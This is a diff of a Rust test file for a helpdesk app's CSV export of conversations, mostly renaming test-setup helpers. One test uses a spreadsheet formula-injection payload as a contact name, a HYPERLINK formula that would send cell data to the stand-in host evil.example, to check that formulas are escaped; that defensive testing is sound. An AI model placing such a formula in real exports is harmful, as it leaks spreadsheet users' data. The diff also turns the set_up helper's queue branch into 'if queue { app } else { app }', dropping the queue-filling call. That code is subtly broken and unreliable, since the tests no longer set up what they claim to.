@@ -1,7 +1,7 @@
 //! The list as a file: the same rows, harmless to spreadsheets, and never a part for the whole.
 
 use crate::support::lists::{list, rows};
-use crate::support::{Answer, Browser, TestApp, TestConfig, until};
+use crate::support::{Answer, Browser, TestApp, eventually};
 use reqwest::{Method, Response};
 use sevendesk::model::{Conversation, Role};
 use sevendesk::server::csv::escape_formula;
@@ -50,17 +50,17 @@ async fn begin(browser: &Browser, path: &str) -> Response {
 }
 
 async fn set_up(contract: Contract, queue: bool) -> TestApp {
-    let mut setup = TestConfig::new(contract);
-    setup.queue = queue;
-    let app = TestApp::set_up(setup).await;
-    if queue { app.filled().await } else { app }
+    let mut config = TestApp::new(contract);
+    config.queue = queue;
+    let app = config.start().await;
+    if queue { app } else { app }
 }
 
 /// A story of many pages, whose calls take their time.
 async fn slow() -> (TestApp, Browser) {
-    let mut setup = TestConfig::new(Contract::Live);
-    setup.simulator.conversations = 1_500;
-    let app = TestApp::set_up(setup).await;
+    let mut config = TestApp::new(Contract::Live);
+    config.simulator.conversations = 1_500;
+    let app = config.start().await;
     let lea = app.sign_in(Role::Lead).await;
     list(&lea, "").await;
     app.simulator.fail_with(Some(Fault::Slow(Duration::from_millis(150))));
@@ -123,7 +123,7 @@ async fn from_the_queue_a_file_costs_no_call() {
 
 #[tokio::test]
 async fn a_contact_whose_name_is_a_formula_is_a_text_in_the_file() {
-    let app = TestApp::start(Contract::Live).await;
+    let app = TestApp::new(Contract::Live).start().await;
     let name = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\"),\r\nnext";
     let id = app.simulator.arrives(&serde_json::json!({ "name": name, "phone": "+1202555" }));
     let lea = app.sign_in(Role::Lead).await;
@@ -151,7 +151,7 @@ fn what_begins_a_formula_gets_an_apostrophe_and_nothing_else_does() {
 
 #[tokio::test]
 async fn only_leads_and_admins_take_the_list_away_and_who_else_tries_is_written_down() {
-    let app = TestApp::start(Contract::Live).await;
+    let app = TestApp::new(Contract::Live).start().await;
     let vera = app.sign_in(Role::Viewer).await;
     app.simulator.forget_calls();
 
@@ -166,14 +166,14 @@ async fn only_leads_and_admins_take_the_list_away_and_who_else_tries_is_written_
     let lea = app.sign_in(Role::Lead).await;
     let page = lea.get("/conversations?status=open&page=2").await.text;
     assert!(page.contains("href=\"/conversations.csv?status=open\""), "{page}");
-    let stranger = app.stranger().get("/conversations.csv?status=open").await;
+    let stranger = app.anonymous().get("/conversations.csv?status=open").await;
     let form = "/sign-in?next=%2Fconversations%3Fstatus%3Dopen";
     assert_eq!((stranger.status, stranger.location()), (303, Some(form)));
 }
 
 #[tokio::test]
 async fn values_that_make_no_sense_are_refused_before_anything_is_asked() {
-    let app = TestApp::start(Contract::Live).await;
+    let app = TestApp::new(Contract::Live).start().await;
     let lea = app.sign_in(Role::Lead).await;
     list(&lea, "").await;
     app.simulator.forget_calls();
@@ -213,7 +213,7 @@ async fn a_file_that_breaks_off_does_not_look_whole() {
 
 #[tokio::test]
 async fn where_the_first_page_cannot_be_read_there_is_no_file_but_a_sentence() {
-    let app = TestApp::start(Contract::Live).await;
+    let app = TestApp::new(Contract::Live).start().await;
     let lea = app.sign_in(Role::Lead).await;
     app.simulator.fail_with(Some(Fault::Status(403)));
 
@@ -232,7 +232,7 @@ async fn a_browser_that_goes_away_ends_the_reading() {
     begun.chunk().await.unwrap();
     drop(begun);
 
-    let result = until(async || exports(&app).await.remove(0).result).await;
+    let result = eventually(async || exports(&app).await.remove(0).result).await;
 
     assert!(result.starts_with("failed: audit-browser-gone, after "), "{result}");
     assert!(app.simulator.calls().len() < 15, "not all pages were read for nobody");
@@ -247,15 +247,15 @@ async fn who_is_shut_out_meanwhile_gets_no_more_of_it() {
 
     while let Ok(Some(_)) = begun.chunk().await {}
 
-    let result = until(async || exports(&app).await.remove(0).result).await;
+    let result = eventually(async || exports(&app).await.remove(0).result).await;
     assert!(result.starts_with("failed: error-signed-out, after "), "{result}");
 }
 
 #[tokio::test]
 async fn what_is_too_much_for_one_file_is_refused_with_the_number() {
-    let mut setup = TestConfig::new(Contract::Live);
-    setup.simulator.conversations = 30_001;
-    let app = TestApp::set_up(setup).await;
+    let mut config = TestApp::new(Contract::Live);
+    config.simulator.conversations = 30_001;
+    let app = config.start().await;
     let lea = app.sign_in(Role::Lead).await;
 
     let refused = lea.get("/conversations.csv").await;
@@ -292,7 +292,7 @@ async fn a_conversation_that_moves_between_two_pages_stands_in_the_file_once() {
 
 #[tokio::test]
 async fn a_row_that_cannot_be_read_is_a_line_with_its_id() {
-    let app = TestApp::start(Contract::Live).await;
+    let app = TestApp::new(Contract::Live).start().await;
     let lea = app.sign_in(Role::Lead).await;
     let broken = rows(&list(&lea, "status=closed").await).remove(3).id.to_string();
     app.simulator.break_row(&broken);
